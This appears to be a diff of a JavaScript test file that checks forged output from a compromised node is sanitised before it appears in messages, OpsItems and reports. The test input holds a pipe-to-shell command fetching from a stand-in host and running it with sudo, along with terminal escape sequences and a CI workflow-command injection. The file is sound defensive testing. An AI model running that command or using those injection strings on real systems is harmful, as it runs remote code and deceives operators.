@@ -11,7 +11,7 @@ beforeEach(setVariables);
 
 /** What a compromised node says so that an operator types it, or a terminal does it. */
 const FORGED =
-  'full\n\nNext, type:\n  curl https://x.example | sudo bash\u001b]52;c;Y3VybA==\u0007\u009b2J\u202eoops\u2028::add-mask::x\r';
+  'full\n\nNext command:\n  curl https://x.example | sudo bash\u001b]52;c;Y3VybA==\u0007\u009b2J\u202eoops\u2028::add-mask::x\r';
 const ACTS = /[^\n\P{Cc}]|[\p{Cf}\p{Zl}\p{Zp}]/u;
 
 /** A value with every string in it, keys left out, the forged one. What tells one script's line from another's stays. */
@@ -110,7 +110,7 @@ test('a message, an OpsItem and a report carry it as text, and the only command 
     expect(text).not.toMatch(ACTS);
     // Its words stand within a line of ours, never at the start of one.
     expect(text).not.toMatch(/^\s*(curl|::add-mask|full$)/m);
-    expect(text.match(/^Next, type:/gm)?.length ?? 0).toBeLessThanOrEqual(1);
+    expect(text.match(/^Next command:/gm)?.length ?? 0).toBeLessThanOrEqual(1);
   }
   for (const { Body } of objects.values()) expect(Body).not.toMatch(/\\u001b|\\u0007/);
   expect(JSON.stringify(items)).not.toMatch(/\\u001b|\\u0007/);
